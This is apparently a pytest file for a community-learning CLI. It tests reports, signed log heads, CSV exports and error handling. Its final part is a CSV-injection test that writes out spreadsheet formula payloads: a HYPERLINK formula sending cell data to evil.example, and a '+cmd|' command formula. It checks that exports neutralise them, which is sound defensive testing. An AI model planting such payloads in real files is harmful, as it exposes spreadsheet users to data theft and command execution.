"""`journey demo`, `report …`, `export-csv` and `projections …` through click's CliRunner."""
from __future__ import annotations

import csv
import io
import json
import re
import shlex

import click
import pytest

from cli.main import main
from events.verify import check_signed_head

from journey.demo import MK_COMMUNITIES, RS_COMMUNITIES, RS_NETWORK

from .test_cli import Journey

pytestmark = pytest.mark.filterwarnings("error")


@pytest.fixture(scope="module")
def demo(tmp_path_factory) -> Journey:
    """One demo installation for the module: the reports only read it."""
    journey = Journey(tmp_path_factory.mktemp("demo"))
    journey("init")
    out = journey("demo").stdout
    assert out.startswith("Loaded ") and "communities" in out
    return journey


def test_demo_loads_once_and_refuses_a_log_with_events(demo: Journey) -> None:
    assert "no demo loaded" in demo("demo", "--if-empty").stdout
    assert demo("demo", code=1).stderr.startswith("error: not_empty: ")
    assert demo("demo", "--scale", "huge", code=1).stderr.startswith(
        "error: usage: Invalid value for '--scale'")


def test_leadership_json_is_designs_report(demo: Journey) -> None:
    community = RS_COMMUNITIES[0]
    report = json.loads(demo("report", "leadership", "--community", community,
                             "--from", "2023-01-01", "--to", "2024-01-01", "--json").stdout)
    assert {"community_id", "from", "to", "as_of", "as_of_position", "enrolled", "sessions",
            "breadth", "gini", "entropy", "member_led_share", "rotation", "reciprocity",
            "in_degree_centralization", "tiers"} <= set(report)
    assert report["community_id"] == community and report["from"] == "2023-01-01"
    assert len(report["tiers"]) == report["enrolled"] > 0


def test_as_of_replays_history_and_the_table_says_so(demo: Journey) -> None:
    now = json.loads(demo("report", "leadership", "--network", RS_NETWORK, "--json").stdout)
    then = json.loads(demo("report", "leadership", "--network", RS_NETWORK, "--as-of",
                           "2023-01-01", "--json").stdout)
    assert then["as_of_position"] < now["as_of_position"]
    assert then["sessions"] < now["sessions"]
    table = demo("report", "leadership", "--network", RS_NETWORK, "--as-of", "2023-01-01",
                 "--trend").stdout
    assert "as of 2023-01-01T00:00:00Z" in table and "member led share" in table
    assert "Q" in table.split("inactive", 1)[1]  # the quarterly trend follows the tiers


def test_macedonian_member_led_share_rises_after_the_hand_over(demo: Journey) -> None:
    for community in MK_COMMUNITIES:
        first, last = (json.loads(demo("report", "leadership", "--community", community,
                                       "--from", f"{y}-01-01", "--to", f"{y + 1}-01-01",
                                       "--json").stdout)["member_led_share"]
                       for y in (2019, 2022))
        assert last >= first + 0.15, community


def test_compare_puts_periods_side_by_side(demo: Journey) -> None:
    a, b = RS_COMMUNITIES[:2]
    reports = json.loads(demo("report", "compare", "--community", a, "--community", b,
                              "--period", "2022-09-01..2023-07-01", "--period",
                              "2023-09-01..2024-07-01", "--json").stdout)
    assert [(r["community_id"], r["from"]) for r in reports] == [
        (a, "2022-09-01"), (a, "2023-09-01"), (b, "2022-09-01"), (b, "2023-09-01")]
    table = demo("report", "compare", "--community", a, "--period", "..").stdout
    assert "metric" in table
    assert table.startswith("As of now (log position ")  # what it was made from, as leadership
    then = demo("report", "compare", "--community", a, "--period", "..", "--as-of",
                "2023-01-01").stdout
    assert then.startswith("As of 2023-01-01T00:00:00Z (log position ")
    assert demo("report", "compare", "--community", a, "--period", "2024",
                code=1).stderr.startswith("error: bad_window: ")


def test_portfolio_community_and_evaluation_views(demo: Journey) -> None:
    community = RS_COMMUNITIES[0]
    view = json.loads(demo("report", "community", community, "--json").stdout)
    member = view["members"][0]["member"]["member_id"]
    portfolio = json.loads(demo("report", "portfolio", member, "--viewer", member,
                                "--json").stdout)
    assert portfolio["member"]["member_id"] == member and portfolio["timeline"]
    assert "Portfolio of" in demo("report", "portfolio", member).stdout
    assert "members:" in demo("report", "community", community, "--as-of",
                              "2023-06-30").stdout
    stories = json.loads(demo("report", "evaluation", "--community", community, "--period",
                              "2022-01-01..2026-01-01", "--json").stdout)
    assert stories["columns"][0]["community_id"] == community


HEAD_LINE = re.compile(r"^made from log head (\d+) ([0-9a-f]{64}) \(signed: (\S+)\)$", re.M)


def test_every_report_and_csv_prints_the_signed_head_it_was_made_from(demo: Journey) -> None:
    """DESIGN "Tamper evidence": reports and exports print the head they were made from,
    signed, so anyone can check it offline (standard output stays the report alone)."""
    community, member = RS_COMMUNITIES[0], None
    public_key = json.loads(demo("verify", "--json").stdout)["signed_head"]["public_key"]
    last = json.loads(demo("report", "leadership", "--community", community,
                           "--json").stdout)["as_of_position"]
    as_of = ("--as-of", "2023-01-01")
    runs = {
        "leadership": ["report", "leadership", "--community", community, *as_of, "--json"],
        "leadership table": ["report", "leadership", "--network", RS_NETWORK, *as_of],
        "compare": ["report", "compare", "--community", community, "--period",
                    "2022-01-01..2023-01-01", *as_of, "--json"],
        "community": ["report", "community", community, *as_of, "--json"],
        "evaluation": ["report", "evaluation", "--community", community, *as_of, "--json"],
        "csv": ["export-csv", "--report", "sessions", "--community", community, *as_of],
    }
    positions = {}
    for name, args in runs.items():
        result = demo(*args)
        heads = HEAD_LINE.findall(result.stderr)
        assert len(heads) == 1 and not HEAD_LINE.search(result.stdout), name
        position, hash_, signature = heads[0]
        assert check_signed_head({"position": int(position), "hash": hash_,
                                  "signature": signature, "public_key": public_key}), name
        positions[name] = int(position)
        if args[-1] == "--json":
            body = json.loads(result.stdout)
            assert (body[0] if isinstance(body, list) else body)["as_of_position"] == \
                int(position), name
        if member is None and name == "community":
            member = json.loads(result.stdout)["members"][0]["member"]["member_id"]
    assert len(set(positions.values())) == 1 and 0 < positions["csv"] < last
    portfolio = demo("report", "portfolio", member, "--json")
    assert HEAD_LINE.findall(portfolio.stderr)[0][0] == str(last)


def test_csv_exports(demo: Journey) -> None:
    community = RS_COMMUNITIES[0]

    def table(*args: str) -> list[list[str]]:
        return list(csv.reader(io.StringIO(demo("export-csv", *args).stdout)))

    # A community named twice is one community, as on the web's compare.csv.
    once = table("--report", "evaluation", "--community", community)
    assert len(once) > 1
    assert table("--report", "evaluation", "--community", community,
                 "--community", community) == once
    leadership = table("--report", "leadership", "--network", RS_NETWORK)
    assert leadership[0][:2] == ["scope", "id"] and leadership[-1][0] == "network"
    sessions = table("--report", "sessions", "--community", community)
    assert sessions[0][0] == "community_id" and len(sessions) > 5
    assert {row[-1] for row in sessions[1:]} <= {"yes", "no"}
    resources = table("--report", "resources", "--community", community)
    assert resources[0][1] == "resource_id" and len(resources) > 1
    member = resources[1][6]
    portfolio = table("--report", "portfolio", "--member", member)
    assert portfolio[1][0] == member
    corrected = portfolio[0].index("corrected")
    # Booleans read alike in every CSV: yes/no, as sessions' member_led above.
    assert {row[corrected] for row in portfolio[1:]} <= {"yes", "no"}
    assert demo("export-csv", "--report", "portfolio", code=1).stderr.startswith(
        "error: scope: ")


# export-csv --report × an option it does not read (CSV_OPTIONS, and the pairs it reads
# one of): each was once ignored, the CSV looking like an answer to it.
INAPPLICABLE = [
    ("leadership", "--member"), ("leadership", "--viewer"),
    ("sessions", "--member"), ("sessions", "--viewer"), ("sessions", "--network"),
    ("portfolio", "--network"),
    ("resources", "--network"), ("resources", "--from"), ("resources", "--to"),
    ("resources", "--member"),
    ("evaluation", "--member"), ("evaluation", "--network"),
]


@pytest.mark.parametrize("kind,option", INAPPLICABLE)
def test_export_csv_refuses_an_option_its_report_does_not_read(demo: Journey, kind: str,
                                                               option: str) -> None:
    community = RS_COMMUNITIES[0]
    member = json.loads(demo("report", "community", community, "--json").stdout)[
        "members"][0]["member"]["member_id"]
    # A call that works, then the same with the option the report does not read.
    scope = ("--member", member) if kind == "portfolio" else ("--community", community)
    base = ("export-csv", "--report", kind, *scope)
    assert demo(*base).stdout.count("\n") > 1
    value = {"--member": member, "--viewer": member, "--network": RS_NETWORK,
             "--from": "2023-01-01", "--to": "2024-01-01"}[option]
    result = demo(*base, option, value, code=1)
    assert result.stderr.startswith(("error: usage: " + f"{option} does not apply to "
                                      f"--report {kind}", f"error: usage: --report {kind} "
                                      f"reads ")), result.stderr
    assert option in result.stderr.splitlines()[0]
    assert result.stdout == ""


def test_a_csv_written_with_out_is_private_even_over_a_readable_file(demo: Journey) -> None:
    # The operator's view (private reflections included): never left world-readable.
    community = RS_COMMUNITIES[0]
    out = demo.folder / "public.csv"
    out.write_text("old\n", encoding="utf-8")
    out.chmod(0o644)

    demo("export-csv", "--report", "resources", "--community", community, "--out", str(out))

    assert out.stat().st_mode & 0o777 == 0o600
    assert out.read_text(encoding="utf-8") == demo(
        "export-csv", "--report", "resources", "--community", community).stdout
    assert "0600" in demo("export-csv", "--help").stdout


def test_a_portfolio_csv_keeps_the_communities_asked_for(demo: Journey) -> None:
    """--community filters the portfolio's timeline, as `report portfolio --community`."""
    here, elsewhere = RS_COMMUNITIES[:2]
    member = json.loads(demo("report", "community", here, "--json").stdout)[
        "members"][0]["member"]["member_id"]

    def rows(*args: str) -> list[list[str]]:
        return list(csv.reader(io.StringIO(demo("export-csv", "--report", "portfolio",
                                                "--member", member, *args).stdout)))

    everything, kept = rows(), rows("--community", here)
    column = everything[0].index("community_id")
    assert len(kept) > 1 and {row[column] for row in kept[1:]} == {here}
    assert rows("--community", elsewhere) == everything[:1]  # not a member there


def _examples(demo: Journey) -> list[list[str]]:
    """Every example of every command's help, as arguments (continued lines joined)."""
    found = []
    commands = [((name,), command) for name, command in main.commands.items()]
    while commands:
        path, command = commands.pop()
        if isinstance(command, click.Group):
            commands += [((*path, name), sub) for name, sub in command.commands.items()]
        lines = [line.strip() for line in
                 demo(*path, "--help").stdout.split("Example", 1)[-1].splitlines()]
        while lines:
            example = lines.pop(0)
            if not example.startswith("journey "):
                continue
            while True:  # a line that ends in \ or inside a quoted --data goes on
                try:
                    if not example.endswith("\\"):
                        found.append(shlex.split(example, comments=True)[1:])
                        break
                except ValueError:
                    pass
                example = example.rstrip("\\") + " " + lines.pop(0)
    return found


def test_the_help_examples_run_against_the_demo(demo: Journey) -> None:
    """A reader copies an example into a terminal with the demo loaded: the reports run,
    and every member, community, network and account the others name is there."""
    examples = _examples(demo)
    assert len(examples) > 20
    accounts = demo("user", "list").stdout.split()
    for args in examples:
        text = " ".join(args)
        if args[0] in ("report", "export-csv"):
            out = args.index("--out") if "--out" in args else len(args)
            demo(*args[:out], *args[out + 2:])  # exit 0
        for member in set(re.findall(r"\bm-[0-9a-f]{10}\b", text)):
            demo("report", "portfolio", member)
        for community in re.findall(r"(?:--community|report community) ([a-z0-9-]+)", text):
            demo("report", "community", community)
        for network in re.findall(r"--network ([a-z0-9-]+)", text):
            demo("report", "leadership", "--network", network)
        if "--actor" in args:  # journey record: a member of the community it records in
            actor = args[args.index("--actor") + 1]
            data = json.loads(args[args.index("--data") + 1])
            view = json.loads(demo("report", "community", data["community_id"],
                                   "--json").stdout)
            assert actor in {m["member"]["member_id"] for m in view["members"]
                             if m["current_role"]}, text
        if args[:2] in (["user", "passwd"], ["user", "token"]):
            assert args[2] in accounts, text


def test_unknown_ids_and_bad_input_are_named(demo: Journey) -> None:
    cases = {("report", "leadership", "--community", "nowhere"): "unknown_community",
             ("report", "leadership", "--network", "nowhere"): "unknown_network",
             ("report", "leadership"): "scope",
             ("report", "leadership", "--community", RS_COMMUNITIES[0], "--as-of", "soon"):
                 "as_of",
             ("report", "leadership", "--community", RS_COMMUNITIES[0], "--from",
              "2024-13-01"): "bad_window",
             ("report", "leadership", "--community", RS_COMMUNITIES[0], "--trend", "--from",
              "0001-01-01", "--to", "9999-12-31"): "bad_window",
             ("report", "portfolio", "nobody"): "unknown_member",
             ("projections", "rebuild", "nothing"): "unknown_projection"}
    for args, code in cases.items():
        assert demo(*args, code=1).stderr.startswith(f"error: {code}: "), args


def test_a_portfolio_window_that_ends_before_it_starts_is_refused(demo: Journey) -> None:
    # As leadership, compare and evaluation refuse it: an empty answer would read as "did
    # nothing then".
    member = json.loads(demo("report", "community", RS_COMMUNITIES[0], "--json").stdout)[
        "members"][0]["member"]["member_id"]
    reversed_window = ("--from", "2025-01-01", "--to", "2024-01-01")

    for args in (("report", "portfolio", member, *reversed_window),
                 ("export-csv", "--report", "portfolio", "--member", member,
                  *reversed_window)):
        assert demo(*args, code=1).stderr == (
            "error: bad_window: the window ends (2024-01-01) before it starts "
            "(2025-01-01)\n"), args


def test_every_reader_refuses_an_unknown_id_it_is_given(demo: Journey) -> None:
    community = RS_COMMUNITIES[0]
    member = json.loads(demo("report", "community", community, "--json").stdout)[
        "members"][0]["member"]["member_id"]
    cases = [(("report", "portfolio", member, "--viewer", "nobody"), "unknown_member"),
             (("report", "portfolio", member, "--community", "nowhere"), "unknown_community"),
             (("report", "community", community, "--viewer", "nobody"), "unknown_member"),
             (("report", "evaluation", "--community", community, "--viewer", "nobody"),
              "unknown_member"),
             (("report", "compare", "--community", "nowhere", "--period", ".."),
              "unknown_community")]
    for kind in ("leadership", "sessions", "portfolio", "resources", "evaluation"):
        report = ("export-csv", "--report", kind)
        cases.append((report + ("--community", "nowhere"), "unknown_community"))
    for kind in ("leadership", "sessions"):
        cases.append((("export-csv", "--report", kind, "--network", "nowhere"),
                      "unknown_network"))
    for kind in ("portfolio", "resources"):
        report = ("export-csv", "--report", kind)
        cases += [(report + ("--member", "nobody"), "unknown_member"),
                  (report + ("--member", member, "--viewer", "nobody"), "unknown_member")]
    cases.append((("export-csv", "--report", "evaluation", "--community", community,
                   "--viewer", "nobody"), "unknown_member"))
    for args, code in cases:
        result = demo(*args, code=1)
        assert result.stderr.startswith(f"error: {code}: there is no "), args
        assert result.stdout == "", args  # not even a CSV header


def test_projections_status_and_rebuild(demo: Journey) -> None:
    states = json.loads(demo("projections", "status", "--json").stdout)
    assert {s["name"] for s in states} == {"leadership", "index"}
    assert all(s["lag"] == 0 and s["state"] == "ok" for s in states)
    assert "leadership: folded" in demo("projections", "rebuild", "leadership").stdout
    assert "lag" in demo("projections", "status").stdout
    both = demo("projections", "rebuild", "--jobs", "2").stdout
    assert "leadership: folded" in both and "index: folded" in both and "(ok)" in both
    assert demo("projections", "rebuild", "--jobs", "0", code=1).stderr.startswith(
        "error: usage: ")


# Text a spreadsheet would run as a formula (OWASP "CSV injection"), in every kind of
# cell a CSV has: names, titles, tags, texts, prompts and the ids a client chooses.
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CALC = "+cmd|'/C calc'!A0"
HOSTILE = [
    ("MemberRegistered", "ana", {"member_id": "ana", "display_name": LINK}),
    ("NetworkCreated", "ana", {"network_id": "net", "name": "Net"}),
    ("CommunityFounded", "ana", {"community_id": "-c1", "name": "@Hostile", "domain": "SEL",
                                 "network_id": "net"}),
    ("MemberJoined", "ana", {"community_id": "-c1", "member_id": "ana", "role": "facilitator"}),
    ("SessionLed", "ana", {"community_id": "-c1", "session_id": "@s1", "leaders": ["ana"],
                           "title": CALC, "format": "meeting"}),
    ("ResourceShared", "ana", {"community_id": "-c1", "resource_id": "=r1", "member_id": "ana",
                               "title": LINK, "kind": "link", "tags": ["@SUM(1+1)"]}),
    ("ReflectionRecorded", "ana", {"reflection_id": "rf-1", "member_id": "ana",
                                   "text": "-1+1", "prompt": "\t=1+1",
                                   "community_id": "-c1", "visibility": "community",
                                   "value_cycle": "immediate"}),
]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Journey:
    journey = Journey(tmp_path_factory.mktemp("hostile"))
    journey("init")
    for type_name, actor, data in HOSTILE:
        journey("record", type_name, "--actor", actor, "--data", json.dumps(data),
                "--occurred-at", "2024-03-05T14:00:00Z")
    return journey


@pytest.mark.parametrize("args, neutralised, numbers", [
    (("leadership", "--network", "net"), {"id": "'-c1"},
     {"enrolled": "1", "sessions": "1", "breadth": "1.0"}),
    (("sessions", "--community=-c1"), {"community_id": "'-c1", "session_id": "'@s1"},
     {"position": "5", "attendees": "0"}),
    (("portfolio", "--member", "ana"), {"community_id": "'-c1", "summary": "'" + CALC},
     {"position": "5"}),
    (("resources", "--community=-c1"),
     {"resource_id": "'=r1", "title": "'" + LINK, "tags": "'@SUM(1+1)"},
     {"reuses_by_others": "0"}),
    (("evaluation", "--community=-c1"),
     {"community_id": "'-c1", "member_name": "'" + LINK, "text": "'-1+1",
      "prompt": "'\t=1+1"}, {}),
])
def test_no_csv_cell_starts_like_a_formula(hostile: Journey, args, neutralised,
                                           numbers) -> None:
    table = list(csv.reader(io.StringIO(hostile("export-csv", "--report", *args).stdout)))
    header, rows = table[0], table[1:]
    cells = [dict(zip(header, row)) for row in rows]
    first = next(c for c in cells if all(c[k] == v for k, v in neutralised.items()))
    assert all(first[k] == v for k, v in numbers.items()), first
    # Nothing a spreadsheet would run is left anywhere in the file.
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@",
                                                                     "\t", "\r")]
